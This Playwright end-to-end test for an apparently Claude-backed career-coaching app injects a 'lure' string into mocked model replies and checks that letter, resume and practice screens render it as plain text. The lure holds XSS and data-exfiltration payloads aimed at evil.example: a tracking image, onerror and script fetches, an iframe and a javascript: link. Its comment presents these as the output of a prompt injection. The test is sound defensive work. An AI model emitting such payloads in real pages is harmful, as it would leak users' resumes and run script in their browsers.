import { afterAll, expect, test } from '@jest/globals';
import type { Page } from 'playwright-core';
import { nursePosting } from '../../api/src/testing/careers/postings.ts';
import { goodAnswer } from '../../api/src/testing/coaching/task-cases.ts';
import {
  startMessagesServer,
  type MessagesServer,
  type Responder,
} from '../../api/src/testing/messages-server/messages-server.ts';
import { answer, restAfter } from '../../api/src/testing/messages-server/reply.ts';
import { honestAnswer } from '../../api/src/testing/messages-server/scripted-coach.ts';
import { startedForTheFile } from './started.ts';
import { givenNurse, givenResult } from './given-nurse.ts';
import { graphql } from './given-profile.ts';

/** What a model might write when a text in its data wants a page to load, run or give away something. */
const lure = [
  'See',
  '![chart](https://evil.example/pixel.png?resume=all)',
  '<img src="https://evil.example/two.png" onerror="fetch(\'https://evil.example/three\')">',
  '<script>fetch("https://evil.example/four")</script>',
  '<iframe src="https://evil.example/five"></iframe>',
  '[the guide](https://evil.example/six?resume=all)',
  '[press](javascript:fetch(`https://evil.example/seven`))',
  'or https://evil.example/eight?resume=all.',
].join(' ');

/** The fields of an answer that a person reads; ids and quotes have to stay as they are. */
const isRead = new Set(['text', 'reason', 'advice', 'tip', 'better', 'question']);

const luring =
  (how: Parameters<typeof answer>[1] = {}, first = ''): Responder =>
  (request) =>
    answer(
      JSON.parse(JSON.stringify(honestAnswer(request)), (key, value: unknown) =>
        typeof value === 'string' && isRead.has(key) ? `${value} ${first} ${lure}` : value,
      ),
      how,
    );

let model: MessagesServer;

const started = startedForTheFile({
  env: async () => {
    model = await startMessagesServer(luring());
    return { ANTHROPIC_API_KEY: model.key, ANTHROPIC_BASE_URL: model.url };
  },
});
afterAll(() => model?.stop());

/** The text is there with the host of its link, and nothing of it is more than text. */
async function shows(page: Page, host = 'evil.example'): Promise<void> {
  const main = page.locator('main, [role=dialog]').filter({ hasText: host }).last();
  await main.waitFor().catch(() => {
    throw new Error(`${page.url()} does not show what the model wrote`);
  });
  const active = await page.evaluate(() =>
    [...document.querySelectorAll('[src], [href], [srcdoc], [onerror], iframe, object, embed')]
      .map((element) => element.outerHTML)
      .filter((html) => /evil\.example|javascript:|onerror|srcdoc/iu.test(html)),
  );
  expect({ page: page.url(), active }).toEqual({ page: page.url(), active: [] });
  expect(await main.innerText()).not.toMatch(/evil\.example\/|resume=all|javascript:|!\[|<img/u);
}

/** Asks for a piece of writing as a page would, and waits until it has ended. */
async function written(page: Page, declared: string, field: string, variables: object) {
  const start = `mutation ($clientKey: String!${declared}) { started: ${field} { ... on GenerationStarted { generation { id } } } }`;
  const clientKey = `model-text-${field.split('(')[0]}`;
  const { started } = await graphql<{ started: { generation: { id: string } } }>(page, start, {
    clientKey,
    ...variables,
  });
  const read = 'query ($id: ID!) { generation(id: $id) { status failure { reason } } }';
  const { id } = started.generation;
  for (let tries = 0; tries < 100; tries += 1) {
    const { generation } = await graphql<{ generation: { status: string } }>(page, read, { id });
    if (generation.status === 'DONE') return;
    if (generation.status === 'FAILED') throw new Error(`${field}: ${JSON.stringify(generation)}`);
    await page.waitForTimeout(100);
  }
  throw new Error(`${field} never ended`);
}

test('whatever a model writes, no screen that shows it loads, runs or links anything', async () => {
  const { page, problems, close } = await started.open();
  await givenNurse(page);

  // While it is written, before anything has been checked.
  const { rest, goOn } = restAfter(30);
  model.respond(luring({ chunk: 60, rest }));
  await page.goto('/letters/new');
  await page.getByLabel('Company').fill(nursePosting.companyName);
  await page.getByLabel('Job title').fill(nursePosting.jobTitle);
  await page.getByLabel('Job description').fill(nursePosting.description);
  await page.getByRole('button', { name: 'Draft letter' }).click();
  const writing = page.getByRole('region', { name: 'Your letter is being written' });
  await writing.getByText('evil.example').first().waitFor();
  await shows(page);
  goOn();

  // The letter with its evidence, its proposal, its history.
  const letter = page.getByLabel('Letter', { exact: true });
  await letter.waitFor({ timeout: 30_000 });
  expect(await letter.inputValue()).toContain('the guide (evil.example)');
  await shows(page);
  model.respond(luring({}, 'In other words.'));
  await page.getByRole('button', { name: 'Write anew' }).click();
  await page.getByLabel('Instruction').fill('shorter');
  await page.getByRole('button', { name: 'Show what would change' }).click();
  await page.getByRole('list', { name: 'Proposal' }).waitFor();
  await shows(page);
  await page.goto('/letters');
  await page.getByRole('list', { name: 'Letters' }).waitFor();

  // Everything else that Claude writes for a person.
  const assessment = await givenResult(page);
  await written(page, '', 'startResumeFeedback(clientKey: $clientKey)', {});
  await written(
    page,
    ', $input: ImproveResumeInput!',
    'startResumeImprovement(clientKey: $clientKey, input: $input)',
    { input: { version: 1 } },
  );
  await written(
    page,
    ', $input: GradeAnswerInput!',
    'startAnswerGrade(clientKey: $clientKey, input: $input)',
    { input: { questionId: 'conflict', answer: goodAnswer } },
  );
  await written(
    page,
    ', $assessmentId: ID!',
    'startImprovementTip(clientKey: $clientKey, assessmentId: $assessmentId)',
    { assessmentId: assessment },
  );
  await written(page, '', 'startInsightPhrasing(clientKey: $clientKey)', {});
  for (const path of [
    '/resume/score',
    '/resume/improve',
    '/practice/answers',
    `/practice/results/${encodeURIComponent(assessment)}`,
    '/dashboard',
  ]) {
    await page.goto(path);
    await shows(page);
  }
  expect(problems).toEqual([]);
  await close();
}, 180_000);
